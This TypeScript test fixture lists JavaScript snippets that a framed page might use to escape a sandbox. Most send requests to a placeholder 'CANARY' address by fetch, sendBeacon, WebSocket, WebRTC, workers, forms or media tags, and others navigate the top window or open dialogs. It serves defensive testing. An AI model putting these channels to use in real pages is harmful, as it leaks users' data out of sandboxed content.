import type { FrameScript } from '../support/frame-script.ts';

const NO_WEBRTC_POLICY =
  "Its policies know no webrtc 'block'. Reader code is in a worker, where there is no RTCPeerConnection.";

const NO_POPUPS = { webkit: 'It opens no window that no click asked for.' };

const add = (html: string): string => `document.body.insertAdjacentHTML('beforeend', '${html}');`;

const link = (attributes: string): string => `
  document.body.insertAdjacentHTML('beforeend', '<a href="CANARY" ${attributes}>x</a>');
  document.body.lastElementChild.click();`;

/** What a page's document could try from a frame. */
export const frameScripts: readonly FrameScript[] = [
  { name: 'alert', code: `alert('reached by alert');`, bitesBy: 'dialog', alone: true },
  { name: 'confirm', code: `confirm('reached by confirm');`, bitesBy: 'dialog', alone: true },
  { name: 'prompt', code: `prompt('reached by prompt');`, bitesBy: 'dialog', alone: true },
  {
    name: 'a new window',
    code: `if (open('about:blank')) reached();`,
    bitesBy: 'word',
    harmlessIn: NO_POPUPS,
    alone: true,
  },
  {
    name: 'a link to a new window',
    code: link('target="_blank"'),
    bitesBy: 'canary',
    harmlessIn: NO_POPUPS,
    alone: true,
  },
  { name: 'top navigation', code: `top.location.href = 'CANARY';`, bitesBy: 'canary', alone: true },
  { name: 'a link for the top', code: link('target="_top"'), bitesBy: 'canary', alone: true },
  { name: 'its own navigation', code: `location.href = 'CANARY';`, bitesBy: 'canary' },
  {
    name: 'a refresh',
    code: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=CANARY">');`,
    bitesBy: 'canary',
  },
  { name: 'a download', code: link('download'), bitesBy: 'canary' },
  {
    name: 'a form',
    code: `document.body.insertAdjacentHTML('beforeend', '<form action="CANARY" method="post"></form>'); document.forms[0].submit();`,
    bitesBy: 'canary',
  },
  { name: 'fetch', code: `fetch('CANARY', { mode: 'no-cors', keepalive: true });`, bitesBy: 'canary' },
  { name: 'sendBeacon', code: `navigator.sendBeacon('CANARY', 'secret');`, bitesBy: 'canary' },
  { name: 'an image', code: `new Image().src = 'CANARY';`, bitesBy: 'canary' },
  {
    name: 'a script',
    code: `document.body.append(Object.assign(document.createElement('script'), { src: 'CANARY' }));`,
    bitesBy: 'canary',
  },
  {
    name: 'a style sheet',
    code: `document.head.insertAdjacentHTML('beforeend', '<link rel="stylesheet" href="CANARY">');`,
    bitesBy: 'canary',
  },
  {
    name: 'a frame',
    code: `document.body.append(Object.assign(document.createElement('iframe'), { src: 'CANARY' }));`,
    bitesBy: 'canary',
  },
  {
    name: 'a frame with a fresh fetch',
    code: `const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.fetch('CANARY', { mode: 'no-cors' });`,
    bitesBy: 'canary',
  },
  {
    name: 'XMLHttpRequest',
    code: `const request = new XMLHttpRequest(); request.open('GET', 'CANARY'); request.send();`,
    bitesBy: 'canary',
  },
  { name: 'WebSocket', code: `new WebSocket('CANARY'.replace('http', 'ws'));`, bitesBy: 'canary' },
  { name: 'EventSource', code: `new EventSource('CANARY');`, bitesBy: 'canary' },
  {
    name: 'a worker that fetches',
    code: `const code = "fetch('CANARY', { mode: 'no-cors' })"; new Worker(URL.createObjectURL(new Blob([code])));`,
    bitesBy: 'canary',
  },
  {
    name: 'a shared worker that fetches',
    code: `const code = "fetch('CANARY', { mode: 'no-cors' })"; new SharedWorker(URL.createObjectURL(new Blob([code])));`,
    bitesBy: 'canary',
  },
  {
    name: 'a worklet',
    code: `new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('CANARY');`,
    bitesBy: 'canary',
  },
  { name: 'a module', code: `import('CANARY');`, bitesBy: 'canary' },
  {
    name: 'RTCPeerConnection',
    code: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL('CANARY').host }] });
    peer.createDataChannel('secret');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));`,
    bitesBy: 'STUN',
    harmlessIn: { webkit: 'It has none.' },
    passesTheFrameIn: { chromium: NO_WEBRTC_POLICY, firefox: NO_WEBRTC_POLICY },
  },
  {
    name: 'WebTransport',
    code: `new WebTransport('CANARY'.replace('http:', 'https:')).ready.catch(() => {});`,
    bitesBy: 'BYTES',
    harmlessIn: { webkit: 'It has none.' },
  },
  {
    name: 'fetchLater',
    code: `fetchLater('CANARY', { activateAfter: 0 });`,
    bitesBy: 'canary',
    harmlessIn: { firefox: 'It has none.', webkit: 'It has none.' },
  },
  { name: 'an object', code: add('<object data="CANARY"></object>'), bitesBy: 'canary' },
  { name: 'an embed', code: add('<embed src="CANARY" type="text/html">'), bitesBy: 'canary' },
  { name: 'a sound', code: add('<audio src="CANARY" preload="auto"></audio>'), bitesBy: 'canary' },
  { name: 'a film', code: add('<video src="CANARY" preload="auto"></video>'), bitesBy: 'canary' },
  { name: 'the still of a film', code: add('<video poster="CANARY"></video>'), bitesBy: 'canary' },
  { name: 'an image of a drawing', code: add('<svg><image href="CANARY"/></svg>'), bitesBy: 'canary' },
  { name: 'an image of a style', code: add('<p style="background: url(CANARY)">x</p>'), bitesBy: 'canary' },
  { name: 'a font', code: `new FontFace('hostile', 'url("CANARY")').load().catch(() => {});`, bitesBy: 'canary' },
  {
    name: 'a frame of its own words',
    code: add('<iframe srcdoc="&lt;img src=CANARY&gt;"></iframe>'),
    bitesBy: 'canary',
  },
  {
    name: 'the ping of a link',
    code: `${add('<a href="#" ping="CANARY">x</a>')} document.body.lastElementChild.click();`,
    bitesBy: 'canary',
    harmlessIn: { firefox: 'It sends pings only for those who turn them on.' },
  },
  { name: 'a preload', code: add('<link rel="preload" as="image" href="CANARY">'), bitesBy: 'canary' },
  {
    name: 'a prefetch',
    // Firefox prefetches only while nothing else loads.
    code: add('<link rel="prefetch" href="CANARY">'),
    bitesBy: 'canary',
    alone: true,
    harmlessIn: { webkit: 'It prefetches nothing.' },
  },
  { name: 'the page', code: `if (parent.document.title !== undefined) reached();`, bitesBy: 'word' },
  { name: 'localStorage', code: `localStorage.setItem('left', 'over'); reached();`, bitesBy: 'word' },
  {
    name: 'cookies',
    code: `document.cookie = 'left=over'; if (document.cookie.includes('left')) reached();`,
    bitesBy: 'word',
  },
  { name: 'code from strings', code: `if (eval('1 + 1') === 2) reached();`, bitesBy: 'word' },
];
